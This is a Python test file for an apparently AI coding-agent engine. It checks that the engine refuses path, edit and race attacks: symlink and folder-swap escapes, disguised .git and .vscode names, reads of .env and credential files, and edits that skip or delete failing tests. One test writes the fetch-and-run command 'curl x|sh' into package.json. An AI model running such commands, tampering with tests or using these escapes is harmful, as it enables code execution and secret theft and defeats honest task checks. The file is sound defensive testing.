"""Attacks on paths and edits, and their harmless look-alikes, on a real folder through the engine's tools."""

from __future__ import annotations

import json
import logging
import os
import threading
from collections.abc import Callable, Generator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from support import cases
from support.attacks import (
    Answer,
    Case,
    Stage,
    act,
    call,
    edits_of,
    everything_below,
    holds,
    meant,
    precreate_for_other,
    stage,
)
from support.engines import engine_on, replacement, run_script, script

from regreen.errors import ConfigError, Refused
from regreen.session import Engine
from regreen.settings import load_settings
from regreen.store import Store
from regreen.workspace import Journal
from regreen.workspace.kernel import exchange

CORPUS = Path(__file__).parents[1] / "corpora" / "cases" / "attacks.json"
ALL: list[Case] = json.loads(CORPUS.read_text("utf-8"))["cases"]
CASES = [case for case in ALL if case["surface"] in ("path", "edit", "race")]
MODE = {"ask": "accept-edits"}


@pytest.mark.parametrize("case", CASES, ids=[c["id"] for c in CASES])
def test_case_ends_as_it_must(
    case: Case, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture, _own_state: Path
) -> None:
    caplog.set_level(logging.DEBUG)
    caplog.set_level(logging.WARNING, "filelock")
    on = stage(case, tmp_path)
    for name, value in on.env.items():
        monkeypatch.setenv(name, value)
    outside = everything_below(on.out)
    for answer in SPECIAL.get(case["id"], plainly)(on, case):
        assert on.canary not in answer.seen
    assert on.canary not in caplog.text
    assert holds(_own_state, on.canary) == []
    assert everything_below(on.out) == outside


def plainly(on: Stage, case: Case) -> list[Answer]:
    """One call, judged by the outcome that the case names."""
    before = everything_below(on.ws)
    with engine_on(on.root, mode=MODE.get(case["expect"]["outcome"], "auto")) as engine:
        answers = act(engine, on, case)
    for answer in answers:
        OUTCOMES[case["expect"]["outcome"]](on, case, answer, before)
    return answers


def is_refused(on: Stage, case: Case, answer: Answer, before: dict[str, Any]) -> None:
    assert answer.kinds
    assert answer.kinds <= meant(case), answer.seen[:500]
    assert everything_below(on.ws) == before


def is_allowed(on: Stage, case: Case, answer: Answer, before: dict[str, Any]) -> None:
    assert not answer.kinds, answer.seen[:500]
    if case["action"]["tool"] == "read":
        path = answer.data["path"]
        assert answer.data["text"].encode() == on.contents[path]
    elif case["action"]["tool"] == "apply_edit":
        assert answer.data["ok"] is True
        for edit in edits_of(case):
            assert edit["replace"] + "\n" in (on.ws / edit["path"]).read_text("utf-8")


def is_masked(on: Stage, case: Case, answer: Answer, before: dict[str, Any]) -> None:
    assert not answer.kinds, answer.seen[:500]
    assert answer.data["redacted"] >= 1


def is_contained(on: Stage, case: Case, answer: Answer, before: dict[str, Any]) -> None:
    """Refused, or done with the mode as it was."""
    if answer.kinds:
        is_refused(on, case, answer, before)
        return
    assert {name: mode for name, (mode, _) in everything_below(on.ws).items()} == {n: m for n, (m, _) in before.items()}


OUTCOMES: dict[str, Callable[[Stage, Case, Answer, dict[str, Any]], None]] = {
    "refuse": is_refused,
    "allow": is_allowed,
    "redact": is_masked,
    "refuse_or_contained": is_contained,
}


# --- what takes more than one call -----------------------------------------------------------------


def fix_run_that_turns_on_the_tests(on: Stage, case: Case) -> list[Answer]:
    """Edits that delete or skip the failing test, or change what decides a test run, are refused attempts."""
    test = case["setup"].split(" ")[0]
    (on.root / ".gitignore").write_bytes(b"__pycache__/\n")
    before = everything_below(on.ws)
    proposals = [
        [replacement(test, "    assert add(2, 3) == 5", "    pass")],
        [replacement(test, "def test_add():", "import pytest\n\n\n@pytest.mark.skip\ndef test_add():")],
        [replacement("conftest.py", "", "collect_ignore = ['tests']\n")],
        [replacement("pytest.ini", "pythonpath = .", "pythonpath = .\naddopts = --co")],
    ]
    with engine_on(on.root, mode="accept-edits") as engine:
        for pair in (proposals[:2], proposals[2:]):  # a third one in a run is not heard any more
            done = run_script(engine, script(on.ws.parent, pair))
            assert [attempt["state"] for attempt in done["attempts"]] == ["refused"] * 2, done
            assert all("path_protected" in repr(attempt) for attempt in done["attempts"])
            assert done["outcome"]["fixed"] is False
    after = {name: held for name, held in everything_below(on.ws).items() if "__pycache__" not in name}
    assert after == before
    return []


def edited_command_file(on: Stage, case: Case) -> list[Answer]:
    """A changed command-bearing file is asked about before the next run: each content anew."""
    argv = ["npm", "test"]
    seen: list[Answer] = []

    def edit(old: str, new: str) -> None:
        answer = call(engine, "apply_edits", replacements=[replacement("package.json", old, new)])
        assert answer.data.get("ok") is True, answer.seen
        seen.append(answer)

    def asked() -> bool:
        try:
            engine.session().allow("run")
        except Refused as e:
            assert e.kind == "needs_approval"
            assert "package.json" in e.message
            seen.append(call(engine, "run_tests", argv=argv))
            assert seen[-1].kinds <= {"needs_approval", "command_not_allowed"}
            return True
        return False

    with engine_on(on.root, mode="accept-edits") as engine:
        assert not asked()
        edit('"test": "jest"', '"test": "curl x|sh"')
        assert asked()
        engine.trust(on.ws, "test")
        assert not asked()
        edit('"test": "curl x|sh"', '"test": "curl y|sh"')
        assert asked()
        edit('"test": "curl y|sh"', '"test": "curl x|sh"')
        assert not asked(), "this content was approved"
    return seen


def state_folder_of_somebody_else(on: Stage, case: Case) -> list[Answer]:
    folder = precreate_for_other(on.ws.parent / "state", 12345)
    settings = load_settings({**os.environ, "REGREEN_STATE_DIR": str(folder)}, roots=(on.ws,), mode="auto")
    before = everything_below(folder) if folder != Path("/") else {}
    with pytest.raises(ConfigError) as caught:
        Engine(settings, cwd=on.ws)
    assert caught.value.kind in meant(case)
    assert before == (everything_below(folder) if folder != Path("/") else {})
    mine = on.ws.parent / "mine"
    mine.mkdir()
    mine.chmod(0o777)
    settings = load_settings({**os.environ, "REGREEN_STATE_DIR": str(mine)}, roots=(on.ws,), mode="auto")
    with Engine(settings, cwd=on.ws):
        assert mine.stat().st_mode & 0o777 == 0o700
    return []


def folder_swapped_during_writes(on: Stage, case: Case) -> list[Answer]:
    path = case["action"]["args"]["path"]
    outside = on.out / Path(path).name
    (on.ws / "to-outside").symlink_to("../out", target_is_directory=True)
    before = (outside.stat().st_ino, outside.read_bytes(), sorted(p.name for p in on.out.iterdir()))
    answers: list[Answer] = []
    with engine_on(on.root) as engine, swapping(on.ws, path.partition("/")[0], "to-outside"):
        for number in range(2000 if cases.ALL else 500):
            edit = replacement(path, "ab"[number % 2], "ba"[number % 2])
            answers.append(call(engine, "apply_edits", replacements=[edit]))
            assert (outside.stat().st_ino, outside.read_bytes(), sorted(p.name for p in on.out.iterdir())) == before
    assert any(a.data.get("ok") for a in answers)
    allowed = {
        "path_outside_workspace",
        "path_outside",
        "no_match",
        "stale",
        "path_invalid",
        "file_not_found",
        "already_applied",
    }
    assert {kind for a in answers for kind in a.kinds} <= allowed
    return answers


@contextmanager
def swapping(root: Path, one: str, two: str) -> Generator[None]:
    """Swaps two names all the time."""
    fd, stop = os.open(root, os.O_RDONLY), threading.Event()

    def swap() -> None:
        while not stop.wait(0.0005) and exchange(fd, one, two):
            pass

    swapper = threading.Thread(target=swap)
    swapper.start()
    try:
        yield
    finally:
        stop.set()
        swapper.join()
        os.close(fd)


def temporary_name_laid_out_as_a_link(on: Stage, case: Case) -> list[Answer]:
    path = case["action"]["args"]["path"]
    victim = on.out / path
    answers: list[Answer] = []
    for form in (".regreen-{txn}-0-do.part", ".regreen-{txn}-0-do.whole"):
        with engine_on(on.root) as engine:
            session = engine.session()

            def lay(step: str, store: Store = engine.store, form: str = form) -> None:
                if step == "journalled":
                    (txn,) = store.rows("SELECT id FROM transactions WHERE state = 'open'")
                    (on.ws / form.format(txn=txn["id"])).symlink_to(victim)

            session.journal = Journal(engine.store, session.workspace, on_step=lay)
            answers.append(call(engine, "apply_edits", replacements=edits_of(case)))
        assert victim.read_bytes() == b"a\n"
        assert not victim.is_symlink()
        assert (on.ws / path).read_bytes() == (b"b\n" if not answers[-1].kinds else b"a\n")
        assert not (on.ws / path).is_symlink()
        assert [p.name for p in on.ws.iterdir()] == [path]
        (on.ws / path).write_bytes(b"a\n")
    return answers


def two_edits_at_once(on: Stage, case: Case) -> list[Answer]:
    path = case["action"]["args"]["path"]
    every: list[Answer] = []
    with engine_on(on.root) as one, engine_on(on.root) as two:
        for _ in range(20 if cases.ALL else 6):
            (on.ws / path).write_bytes(b"a\n" * 1 + b"tail\n" * 2000)
            together = threading.Barrier(2)
            answers: dict[str, Answer] = {}

            def edit(engine: Engine, new: str, together: threading.Barrier, answers: dict[str, Answer]) -> None:
                together.wait()
                answers[new] = call(engine, "apply_edits", replacements=[replacement(path, "a", new)])

            threads = [
                threading.Thread(target=edit, args=(e, n, together, answers)) for e, n in ((one, "b"), (two, "c"))
            ]
            for thread in threads:
                thread.start()
            for thread in threads:
                thread.join()
            (winner,) = [new for new, answer in answers.items() if not answer.kinds]
            (loser,) = [answer for answer in answers.values() if answer.kinds]
            assert loser.kinds <= meant(case)
            assert (on.ws / path).read_bytes() == winner.encode() + b"\n" + b"tail\n" * 2000
            every += answers.values()
    return every


SPECIAL: dict[str, Callable[[Stage, Case], list[Answer]]] = {
    "A-edit-009": fix_run_that_turns_on_the_tests,
    "A-edit-010": edited_command_file,
    "A-race-002": folder_swapped_during_writes,
    "A-race-004": temporary_name_laid_out_as_a_link,
    "A-race-005": two_edits_at_once,
    "A-race-007": edited_command_file,
    "A-race-008": state_folder_of_somebody_else,
}


def test_corpus_is_complete() -> None:
    assert len(CASES) >= 50
    assert set(SPECIAL) <= {c["id"] for c in CASES}


# --- more of the same kinds --------------------------------------------------------------------------


@pytest.mark.parametrize("name", [".env", "app/.env", ".env.local", ".env.production", ".netrc", ".git-credentials"])
def test_file_known_to_hold_secrets_is_neither_shown_nor_edited(tmp_path: Path, name: str) -> None:
    (tmp_path / name).parent.mkdir(exist_ok=True)
    (tmp_path / name).write_bytes(b"KEY=hidden-word\n")
    (tmp_path / "link").symlink_to(name)
    with engine_on(tmp_path) as engine:
        for path in (name, "link", str(tmp_path / name), f"./{name}"):
            answer = call(engine, "read_file", path=path)
            assert answer.kinds == {"path_protected"}
            edit = call(engine, "apply_edits", replacements=[replacement(path, "KEY=hidden-wort", "KEY=x")])
            assert edit.kinds == {"path_protected"}
            assert "hidden-word" not in answer.seen + edit.seen
    assert (tmp_path / name).read_bytes() == b"KEY=hidden-word\n"


@pytest.mark.parametrize("name", [".env.example", ".env.sample", "env", "environment.py", "my.env.py", "dotenv/.envs"])
def test_file_with_a_name_like_those_of_secrets_is_read_and_edited(tmp_path: Path, name: str) -> None:
    (tmp_path / name).parent.mkdir(exist_ok=True)
    (tmp_path / name).write_bytes(b"KEY=word\n")
    with engine_on(tmp_path) as engine:
        assert call(engine, "read_file", path=name).data["text"] == "KEY=word\n"
        assert call(engine, "apply_edits", replacements=[replacement(name, "KEY=word", "KEY=x")]).data["ok"]
    assert (tmp_path / name).read_bytes() == b"KEY=x\n"


@pytest.mark.parametrize(
    "path",
    [".git./config", ".git /x", "GIT~1/config", ".g\u200cit/config", ".git::$INDEX_ALLOCATION/x", "a/.GIT/hooks/x",
     "here/.git/x", ".Vscode/tasks.json", ".github/Workflows/x.yml"],
)  # fmt: skip
def test_protected_name_in_another_form_is_protected(tmp_path: Path, path: str) -> None:
    (tmp_path / ".git").mkdir()
    (tmp_path / "here").symlink_to(".", target_is_directory=True)
    before = everything_below(tmp_path)
    with engine_on(tmp_path) as engine:
        answer = call(engine, "apply_edits", replacements=[replacement(path, "", "x = 1")])
    assert answer.kinds == {"path_protected"}
    assert everything_below(tmp_path) == before


@pytest.mark.parametrize("kind", ["pipe", "zeros", "folder", "link to a device"])
def test_what_is_no_regular_file_is_refused_at_once(tmp_path: Path, kind: str) -> None:
    made = tmp_path / "x"
    match kind:
        case "pipe":
            os.mkfifo(made)
        case "folder":
            made.mkdir()
        case "zeros" if os.geteuid() == 0:
            try:
                os.mknod(made, 0o020666, os.makedev(1, 5))
            except PermissionError:
                made.symlink_to("/dev/zero")
        case _:
            made.symlink_to("/dev/zero")
    with engine_on(tmp_path) as engine:
        assert call(engine, "read_file", path="x").kinds <= {"not_regular_file", "path_outside_workspace"}
        edit = call(engine, "apply_edits", replacements=[replacement("x", "a", "b")])
        assert edit.kinds <= {"unsupported", "path_invalid", "path_outside"}
        assert edit.kinds
